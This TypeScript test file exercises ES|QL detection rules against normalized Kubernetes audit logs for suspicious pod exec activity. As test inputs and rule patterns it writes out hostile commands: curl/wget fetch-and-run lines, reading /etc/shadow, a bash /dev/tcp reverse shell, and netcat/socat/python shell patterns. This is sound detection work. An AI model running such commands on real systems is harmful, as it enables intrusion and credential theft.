/** ES|QL rules, written for these tests, on documents as the normalizer makes them. */
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { EventDocument } from '../../../../../../../services/detector/rules/expression.ts';
import { normalized } from '../documents.ts';
import { verdict } from './tried.ts';

const FOLDER = new URL('../../../../../../golden/normalizer/', import.meta.url);
/** One of them records that there is no document, and is none. */
const GOLDEN: readonly (readonly [string, EventDocument])[] = readdirSync(FOLDER)
  .filter((name) => name.endsWith('.json'))
  .map((name) => [name, readFileSync(new URL(name, FOLDER), 'utf8')] as const)
  .filter(([, text]) => text.startsWith('{'))
  .map(([name, text]) => [name, JSON.parse(text) as EventDocument]);

/** Names of the golden documents that a query matches. */
function matched(query: string): readonly string[] {
  return GOLDEN.filter(([, document]) => verdict(query, document) === 'match').map(
    ([name]) => name,
  );
}

function exec(argv: readonly string[], more: object = {}): EventDocument {
  const query = argv.map((word) => `command=${encodeURIComponent(word)}`).join('&');
  return normalized({
    verb: 'create',
    user: { username: 'mallory', groups: ['dev', 'system:authenticated'] },
    sourceIPs: ['203.0.113.7'],
    requestURI: `/api/v1/namespaces/pay/pods/web-0/exec?${query}&container=app&stdin=true&stdout=true`,
    objectRef: {
      resource: 'pods',
      subresource: 'exec',
      namespace: 'pay',
      name: 'web-0',
      apiVersion: 'v1',
    },
    responseStatus: { code: 101 },
    annotations: { 'authorization.k8s.io/decision': 'allow' },
    ...more,
  });
}

const FROM = 'FROM logs-kubernetes.audit_logs-* METADATA _id, _index, _version';
const DECISION = 'kubernetes.audit.annotations.`authorization_k8s_io/decision`';

describe('an exec read from its request', () => {
  const query = `${FROM}
    | WHERE kubernetes.audit.objectRef.subresource == "exec" AND ${DECISION} == "allow"
    | GROK kubernetes.audit.requestURI "exec\\\\?%{DATA:raw}&container=%{NOTSPACE:rest}"
    | EVAL plain = REPLACE(URL_DECODE(raw), "command=", ""), line = REPLACE(plain, "&", " ")
    | WHERE line RLIKE ".*(curl|wget) .*http.*" OR line LIKE ("*169.254.169.254*", "*/etc/shadow*")
    | KEEP _id, line, user.name`;

  it.each([
    [['curl', '-s', 'http://192.0.2.1/x.sh'], 'match'],
    [['sh', '-c', 'wget -q -O- "http://192.0.2.1/a b" | sh'], 'match'],
    [['cat', '/etc/shadow'], 'match'],
    [['curl', '--version'], 'no match'],
    [['ls', '-la'], 'no match'],
  ])('%j: %s', (argv, expected) => expect(verdict(query, exec(argv))).toBe(expected));

  it('not where it was refused', () => {
    const refused = { annotations: { 'authorization.k8s.io/decision': 'forbid' } };
    expect(verdict(query, exec(['cat', '/etc/shadow'], refused))).toBe('no match');
  });
});

describe('a reverse shell among the words of a command', () => {
  const query = `${FROM}
    | EVAL line = TO_LOWER(process.command_line)
    | WHERE line LIKE ("*/dev/tcp/*", "*mkfifo*nc *", "*socat*exec:*")
        OR line RLIKE ".*python[0-9.]* -c .*socket.*(pty|subprocess).*"`;

  it.each([
    [['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.9/443 0>&1'], 'match'],
    [['Python3', '-c', 'import socket,pty'], 'match'],
    [['python3', 'manage.py', 'migrate'], 'no match'],
  ])('%j: %s', (argv, expected) => expect(verdict(query, exec(argv))).toBe(expected));
});

describe('a score', () => {
  const query = `${FROM}
    | EVAL Esql.shell = CASE(process.command_line RLIKE "(/bin/)?(ba|z|da)?sh( .*)?", 30, 0),
           Esql.outside = CASE(CIDR_MATCH(source.ip, "10.0.0.0/8", "127.0.0.0/8"), 0, 20),
           Esql.person = CASE(user.name LIKE "system:*", 0, user.name IS NULL, 0, 25)
    | EVAL Esql.score = Esql.shell + Esql.outside + Esql.person
    | WHERE Esql.score >= 70
    | SORT Esql.score DESC | LIMIT 100 | KEEP Esql.*`;

  it.each([
    [exec(['/bin/bash']), 'match'],
    [exec(['ls']), 'no match'],
    [exec(['/bin/bash'], { sourceIPs: ['10.1.2.3'] }), 'no match'],
    [exec(['/bin/bash'], { user: { username: 'system:admin' } }), 'no match'],
  ])('%#: %2$s', (document, expected) => expect(verdict(query, document)).toBe(expected));
});

describe('the golden documents', () => {
  it.each([
    [
      'WHERE kubernetes.audit.objectRef.subresource == "exec" AND http.response.status_code == 101',
      /^exec/,
    ],
    [
      'WHERE kubernetes.audit.verb IN ("list", "watch") AND http.response.status_code == 403',
      /^refused-list/,
    ],
    ['WHERE MV_CONTAINS(user.roles, ["payments-dev", "dev"])', /./],
    [
      'WHERE podwitness.actor.kind != "human" AND kubernetes.audit.objectRef.subresource == "exec"',
      /^exec/,
    ],
    [
      'WHERE kubernetes.audit.requestObject.spec.containers.securityContext.privileged',
      /^(?:node-debugger|privileged-pod|refused-by-admission)/,
    ],
    ['WHERE DATE_EXTRACT("year", @timestamp) == 2026 AND kubernetes.audit.verb == "patch"', /./],
  ])('%s', (rest, names) => {
    const found = matched(`FROM a | ${rest}`);
    expect(found.length).toBeGreaterThan(0);
    for (const name of found) expect(name).toMatch(names);
  });

  it('values of a keyword are sorted and come once, as Elasticsearch gives them back', () => {
    const document = exec(['sh', '-c', 'a', 'sh']);
    expect(verdict('FROM a | WHERE MV_CONCAT(process.args, " ") == "-c a sh"', document)).toBe(
      'match',
    );
    expect(verdict('FROM a | WHERE process.args == "sh"', document)).toBe('no match');
  });
});

describe('what the policy did not record', () => {
  const document = normalized({
    level: 'Metadata',
    verb: 'create',
    user: { username: 'mallory' },
    requestURI: '/api/v1/namespaces/pay/pods',
    objectRef: { resource: 'pods', namespace: 'pay', name: 'x', apiVersion: 'v1' },
    responseStatus: { code: 201 },
  });
  const image = 'kubernetes.audit.requestObject.spec.containers.image';
  it.each([
    ['kubernetes.audit.requestObject.spec.hostPID == true', 'cannot tell'],
    ['NOT kubernetes.audit.requestObject.spec.hostPID == true', 'cannot tell'],
    [`${image} IS NULL`, 'cannot tell'],
    [`COALESCE(${image}, "none") == "none"`, 'cannot tell'],
    [`LENGTH(${image}) > 3`, 'cannot tell'],
    [`CASE(${image} == "a", 1, 2) == 2`, 'cannot tell'],
    [`${image} == "a" AND kubernetes.audit.verb == "get"`, 'no match'],
    [`${image} == "a" OR kubernetes.audit.verb == "create"`, 'match'],
    ['kubernetes.audit.verb == "create"', 'match'],
  ])('%s: %s', (condition, expected) => {
    expect(verdict(`FROM a | WHERE ${condition}`, document)).toBe(expected);
  });

  it('through a column of its own, too', () => {
    const query = `FROM a | EVAL i = TO_LOWER(${image}) | GROK i "%{WORD:w}" | WHERE w == "a"`;
    expect(verdict(query, document)).toBe('cannot tell');
    expect(verdict(`FROM a | MV_EXPAND ${image} | WHERE ${image} == "a"`, document)).toBe(
      'cannot tell',
    );
  });
});
